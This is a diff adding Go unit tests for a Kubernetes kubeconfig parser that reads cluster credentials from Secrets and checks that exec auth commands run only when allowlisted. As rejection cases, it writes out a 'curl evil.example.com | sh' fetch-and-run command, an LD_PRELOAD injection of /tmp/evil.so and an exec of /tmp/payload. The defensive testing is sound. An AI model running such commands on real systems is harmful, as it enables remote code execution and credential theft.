@@ -0,0 +1,128 @@
+package kubeconfig
+
+import (
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	v1 "k8s.io/api/core/v1"
+	metaV1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"testing"
+)
+
+func TestClusterFromSecret_Kubeconfig(t *testing.T) {
+	secret := &v1.Secret{
+		ObjectMeta: metaV1.ObjectMeta{Name: "staging", Namespace: "fleet"},
+		Data:       map[string][]byte{"kubeconfig": []byte(kubeconfigWithContext("c1", false))},
+	}
+	name, kubeconfig, err := ClusterFromSecret(secret, nil)
+	require.Nil(t, err)
+	assert.Equal(t, "staging", name)
+	assert.Equal(t, "c1", kubeconfig.CurrentContext)
+	assert.Equal(t, "https://c1.example.com", kubeconfig.Clusters["c1"].Server)
+}
+
+func TestClusterFromSecret_ClusterAPI(t *testing.T) {
+	secret := &v1.Secret{
+		ObjectMeta: metaV1.ObjectMeta{
+			Name:      "prod-a-kubeconfig",
+			Namespace: "fleet",
+			Labels:    map[string]string{"cluster.x-k8s.io/cluster-name": "prod-a"},
+		},
+		Type: "cluster.x-k8s.io/secret",
+		Data: map[string][]byte{"value": []byte(kubeconfigWithContext("prod-a-admin@prod-a", true))},
+	}
+	name, kubeconfig, err := ClusterFromSecret(secret, nil)
+	require.Nil(t, err)
+	assert.Equal(t, "prod-a", name)
+	assert.Equal(t, "prod-a-admin@prod-a", kubeconfig.CurrentContext)
+}
+
+func TestClusterFromSecret_ArgoCD(t *testing.T) {
+	secret := &v1.Secret{
+		ObjectMeta: metaV1.ObjectMeta{
+			Name:      "cluster-prod-b",
+			Namespace: "argocd",
+			Labels:    map[string]string{"argocd.argoproj.io/secret-type": "cluster"},
+		},
+		Data: map[string][]byte{
+			"name":   []byte("prod-b"),
+			"server": []byte("https://prod-b.example.com"),
+			// language=json
+			"config": []byte(`{"bearerToken": "token", "tlsClientConfig": {"insecure": false, "caData": "Y2EtZGF0YQ=="}}`),
+		},
+	}
+	name, kubeconfig, err := ClusterFromSecret(secret, nil)
+	require.Nil(t, err)
+	assert.Equal(t, "prod-b", name)
+	assert.Equal(t, "prod-b", kubeconfig.CurrentContext)
+	assert.Equal(t, "https://prod-b.example.com", kubeconfig.Clusters["prod-b"].Server)
+	assert.Equal(t, []byte("ca-data"), kubeconfig.Clusters["prod-b"].CertificateAuthorityData)
+	assert.Equal(t, "token", kubeconfig.AuthInfos["prod-b"].Token)
+
+	// language=json
+	secret.Data["config"] = []byte(`{"awsAuthConfig": {"clusterName": "prod-b-eks", "roleARN": "arn:aws:iam::123:role/scout"}}`)
+	_, _, err = ClusterFromSecret(secret, nil)
+	require.NotNil(t, err, "commands are not run unless enabled")
+	_, kubeconfig, err = ClusterFromSecret(secret, []string{"aws"})
+	require.Nil(t, err)
+	exec := kubeconfig.AuthInfos["prod-b"].Exec
+	require.NotNil(t, exec)
+	assert.Equal(t, "aws", exec.Command)
+	assert.Equal(t, []string{"eks", "get-token", "--cluster-name", "prod-b-eks", "--role-arn", "arn:aws:iam::123:role/scout"}, exec.Args)
+
+	// language=json
+	secret.Data["config"] = []byte(`{"execProviderConfig": {"command": "sh", "args": ["-c", "curl evil.example.com | sh"]}}`)
+	_, _, err = ClusterFromSecret(secret, []string{"aws"})
+	require.NotNil(t, err, "commands out of the allowlist are not run")
+	// language=json
+	secret.Data["config"] = []byte(`{"execProviderConfig": {"command": "aws", "env": {"LD_PRELOAD": "/tmp/evil.so"}}}`)
+	_, _, err = ClusterFromSecret(secret, []string{"aws"})
+	require.NotNil(t, err, "the environment can not change which code the command runs")
+
+	secret.Data["server"] = []byte("https://kubernetes.default.svc")
+	name, kubeconfig, err = ClusterFromSecret(secret, nil)
+	require.Nil(t, err)
+	assert.Equal(t, "prod-b", name)
+	assert.Nil(t, kubeconfig)
+}
+
+func TestClusterFromSecret_Invalid(t *testing.T) {
+	_, _, err := ClusterFromSecret(&v1.Secret{
+		ObjectMeta: metaV1.ObjectMeta{Name: "unrelated", Namespace: "fleet"},
+		Data:       map[string][]byte{"password": []byte("secret")},
+	}, nil)
+	require.NotNil(t, err)
+
+	_, _, err = ClusterFromSecret(&v1.Secret{
+		ObjectMeta: metaV1.ObjectMeta{Name: "broken", Namespace: "fleet"},
+		Data:       map[string][]byte{"kubeconfig": []byte("not: [a kubeconfig")},
+	}, nil)
+	require.NotNil(t, err)
+}
+
+func TestClusterFromSecret_KubeconfigExec(t *testing.T) {
+	// language=yaml
+	content := `
+apiVersion: v1
+kind: Config
+current-context: remote
+contexts:
+- name: remote
+  context: {cluster: remote, user: remote}
+clusters:
+- name: remote
+  cluster: {server: https://remote.example.com}
+users:
+- name: remote
+  user:
+    exec: {apiVersion: client.authentication.k8s.io/v1beta1, command: /tmp/payload}
+`
+	secret := &v1.Secret{
+		ObjectMeta: metaV1.ObjectMeta{Name: "remote", Namespace: "fleet"},
+		Data:       map[string][]byte{"kubeconfig": []byte(content)},
+	}
+	_, _, err := ClusterFromSecret(secret, nil)
+	require.NotNil(t, err)
+	_, kubeconfig, err := ClusterFromSecret(secret, []string{"/tmp/payload"})
+	require.Nil(t, err)
+	assert.Equal(t, "remote", kubeconfig.CurrentContext)
+}